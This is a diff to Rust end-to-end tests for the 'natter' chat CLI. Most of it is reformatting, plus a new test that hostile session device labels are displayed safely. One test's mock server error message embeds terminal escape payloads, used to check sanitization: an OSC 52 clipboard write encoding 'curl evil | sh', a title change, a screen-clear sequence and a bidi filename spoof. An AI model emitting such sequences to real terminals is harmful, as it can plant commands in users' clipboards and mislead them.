@@ -59,7 +59,10 @@ fn assert_messages_shown(what: &str, stdout: &str, sent: &[String]) {
             "{what}: message {prefix:?} is missing from the output"
         );
     }
-    assert!(stdout.contains("ok: 日本語 ✓ 👍🏽 e\u{301} tab\tnew"), "{what}: benign text lost");
+    assert!(
+        stdout.contains("ok: 日本語 ✓ 👍🏽 e\u{301} tab\tnew"),
+        "{what}: benign text lost"
+    );
     assert!(
         stdout.contains(&corpus::huge_plain_line()),
         "{what}: the huge plain line was not shown whole"
@@ -116,7 +119,9 @@ fn hostile_text_never_reaches_the_terminal_and_json_keeps_it_exact() {
     for (i, (name, text)) in corpus::HOSTILE.iter().enumerate() {
         if name.contains("osc 52") || name.contains("forged") || name.contains("bidi RLO") {
             let text = format!("g{i:02}: {text}");
-            alice.run_stdin(["send", "ops"], text.as_bytes()).assert_ok();
+            alice
+                .run_stdin(["send", "ops"], text.as_bytes())
+                .assert_ok();
             group.push(text);
         }
     }
@@ -132,7 +137,10 @@ fn hostile_text_never_reaches_the_terminal_and_json_keeps_it_exact() {
     let shown = human.stdout();
     assert_messages_shown("natter listen", &shown, &direct);
     for text in &group {
-        assert!(shown.contains(&format!("ops <alice> {}", &text[..5])), "{text:?} missing");
+        assert!(
+            shown.contains(&format!("ops <alice> {}", &text[..5])),
+            "{text:?} missing"
+        );
     }
     corpus::assert_terminal_safe("natter listen (stderr)", &human.stderr());
 
@@ -166,7 +174,11 @@ fn hostile_text_never_reaches_the_terminal_and_json_keeps_it_exact() {
     let out = bob.run_ok(["history", "ops"]);
     assert_screen_safe("natter history ops", &out);
     assert_no_forged_lines("natter history ops", &out.stdout);
-    let texts: Vec<String> = bob.history("ops", &[]).into_iter().map(|m| m.text).collect();
+    let texts: Vec<String> = bob
+        .history("ops", &[])
+        .into_iter()
+        .map(|m| m.text)
+        .collect();
     assert_eq!(texts, group);
 
     // Lists: conversations, groups, whoami (names are validated, but check the screen).
@@ -184,11 +196,17 @@ fn hostile_text_never_reaches_the_terminal_and_json_keeps_it_exact() {
     server.kill9();
     let queued = format!("q: {}", corpus::HOSTILE[7].1);
     alice
-        .run_stdin(["send", "--queue", "--wait", "200ms", "@bob"], queued.as_bytes())
+        .run_stdin(
+            ["send", "--queue", "--wait", "200ms", "@bob"],
+            queued.as_bytes(),
+        )
         .assert_ok();
     let out = alice.run_ok(["outbox"]);
     assert_screen_safe("natter outbox", &out);
-    assert!(out.stdout.contains("q: "), "outbox lists the message\n{out}");
+    assert!(
+        out.stdout.contains("q: "),
+        "outbox lists the message\n{out}"
+    );
     let out = alice.run_ok(["outbox", "--json"]);
     let lines = out.json_lines();
     assert_eq!(lines.len(), 1, "{out}");
@@ -231,7 +249,9 @@ async fn a_websocket_text_frame_that_is_not_utf8_is_refused_and_the_server_stays
             http::header::AUTHORIZATION,
             format!("Bearer {}", bob.token).parse().unwrap(),
         );
-        let (mut stream, _) = tokio_tungstenite::connect_async(req).await.expect("connect");
+        let (mut stream, _) = tokio_tungstenite::connect_async(req)
+            .await
+            .expect("connect");
         // A text frame (opcode 1) whose payload is not UTF-8: tungstenite's typed
         // `Message::Text` cannot hold it, so build the frame by hand.
         let mut payload =
@@ -240,7 +260,10 @@ async fn a_websocket_text_frame_that_is_not_utf8_is_refused_and_the_server_stays
         payload.extend_from_slice(bytes);
         payload.extend_from_slice(br#""}"#);
         let frame = Frame::message(payload, OpCode::Data(Data::Text), true);
-        stream.send(WsMessage::Frame(frame)).await.expect("send raw frame");
+        stream
+            .send(WsMessage::Frame(frame))
+            .await
+            .expect("send raw frame");
 
         // The server answers with an error frame or closes (1007 is the RFC's code for
         // invalid UTF-8); either way within a moment, and it never stores anything.
@@ -310,7 +333,8 @@ fn hostile_server(status: &'static str, message: &'static str) -> String {
 
 #[test]
 fn a_hostile_servers_error_text_is_sanitized_on_stderr() {
-    let message = "login failed\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;pwned\x07\u{9b}2J\u{202e}txt.exe";
+    let message =
+        "login failed\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;pwned\x07\u{9b}2J\u{202e}txt.exe";
     let url = hostile_server("400 Bad Request", message);
     let home = tempfile::tempdir().expect("temp NATTER_HOME");
     let mut cmd = std::process::Command::new(&natter_e2e::bins::bins().natter);
@@ -327,4 +351,55 @@ fn a_hostile_servers_error_text_is_sanitized_on_stderr() {
     out.assert_code(1);
     assert_screen_safe("natter login against a hostile server", &out);
     out.assert_stderr_contains("login failed");
+}
+
+#[test]
+fn hostile_session_labels_are_shown_safely() {
+    let server = Server::start();
+    let bob = server.register("bob");
+    let url = server.url();
+    let labels: Vec<&str> = corpus::HOSTILE
+        .iter()
+        .filter(|(name, _)| {
+            name.contains("osc 52") || name.contains("8-bit CSI") || name.contains("bidi RLO")
+        })
+        .map(|(_, text)| *text)
+        .collect();
+    let runtime = tokio::runtime::Runtime::new().unwrap();
+    let mut accepted = Vec::new();
+    for label in &labels {
+        let status = runtime.block_on(async {
+            reqwest::Client::new()
+                .post(format!("{url}/api/v1/auth/login"))
+                .json(
+                    &serde_json::json!({"username": "bob", "password": PASSWORD, "device": label}),
+                )
+                .send()
+                .await
+                .expect("POST /auth/login")
+                .status()
+        });
+        // Refusing such a label is fine; storing it is fine; only showing it raw is not.
+        assert!(
+            status == 200 || status == 400,
+            "login with a hostile device label: {status}"
+        );
+        if status == 200 {
+            accepted.push(*label);
+        }
+    }
+    let out = bob.run_ok(["sessions"]);
+    assert_screen_safe("natter sessions", &out);
+    let out = bob.run_ok(["sessions", "--json"]);
+    let devices: Vec<String> = out
+        .json_lines()
+        .iter()
+        .filter_map(|s| s["device"].as_str().map(str::to_owned))
+        .collect();
+    for label in accepted {
+        assert!(
+            devices.iter().any(|d| d == label),
+            "--json keeps the exact label {label:?}\n{out}"
+        );
+    }
 }
